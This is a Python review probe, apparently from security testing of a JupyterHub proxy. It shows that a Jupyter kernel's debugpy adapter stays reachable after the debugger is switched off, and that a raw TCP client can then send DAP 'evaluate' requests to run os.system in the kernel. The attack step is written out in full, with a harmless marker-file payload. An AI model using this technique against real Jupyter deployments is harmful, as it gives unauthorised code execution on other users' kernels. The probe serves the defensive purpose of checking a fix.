"""Review probe: the JupyterLab debugger's adapter runs code for a second client.

A kernel (jupyter_client) gets the debugger's initialize and attach, then disconnect (the
debugger switched off). A raw TCP client of the adapter's port then sends initialize,
attach, evaluate: ``os.system`` runs in the kernel. Before 500c16f the in-server scan listed
the adapter's ports as the user's app (so the relay opened them in an allowed range).

    PYTHONPATH=. .venv/bin/python review27/debugpy_probe.py
"""

import json
import os
import socket
import time

from jupyter_client import KernelManager

from jhproxy_routes.singleuser.listeners import listeners
from tests.test_singleuser_ports import debugger_ports

MARK = "/tmp/review27_pwned"
KERNEL_PORTS = ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port")


def send(sock, obj):
    body = json.dumps(obj).encode()
    sock.sendall(b"Content-Length: %d\r\n\r\n" % len(body) + body)


def recv_all(sock, wait=3):
    sock.settimeout(wait)
    out = b""
    try:
        while chunk := sock.recv(65536):
            out += chunk
    except TimeoutError:
        pass
    return out


def main():
    km = KernelManager(kernel_name="python3")
    km.start_kernel()
    kc = km.client()
    kc.start_channels()
    kc.wait_for_ready(30)
    excluded = {getattr(km, name) for name in KERNEL_PORTS}

    def scanned():
        return {entry.port for entry in listeners(os.getuid(), excluded, excluded_pids={km.provisioner.pid, os.getpid()})}

    def debug(seq, command, arguments):
        request = {"type": "request", "seq": seq, "command": command, "arguments": arguments}
        kc.control_channel.send(kc.session.msg("debug_request", request))
        return kc.control_channel.get_msg(timeout=30)["content"]

    before = scanned()
    debug(1, "initialize", {"clientID": "x", "adapterID": "python", "pathFormat": "path"})
    debug(2, "attach", {})
    debug(3, "disconnect", {"restart": False, "terminateDebuggee": False})
    time.sleep(2)
    print("ports the scan takes for the user's apps since the debugger started:", scanned() - before)
    print("the debugger adapter's ports:", debugger_ports())
    for port in sorted(debugger_ports()):
        try:
            with socket.create_connection(("127.0.0.1", port), 5) as sock:
                send(sock, {"seq": 1, "type": "request", "command": "initialize", "arguments": {"adapterID": "python"}})
                recv_all(sock)
                send(sock, {"seq": 2, "type": "request", "command": "attach", "arguments": {}})
                recv_all(sock)
                expression = f"__import__('os').system('touch {MARK}')"
                send(sock, {"seq": 3, "type": "request", "command": "evaluate", "arguments": {"expression": expression}})
                print(port, "evaluate ->", recv_all(sock)[-200:])
        except OSError as e:
            print(port, e)
    print("code ran in the kernel:", os.path.exists(MARK))
    km.shutdown_kernel(now=True)


if __name__ == "__main__":
    main()
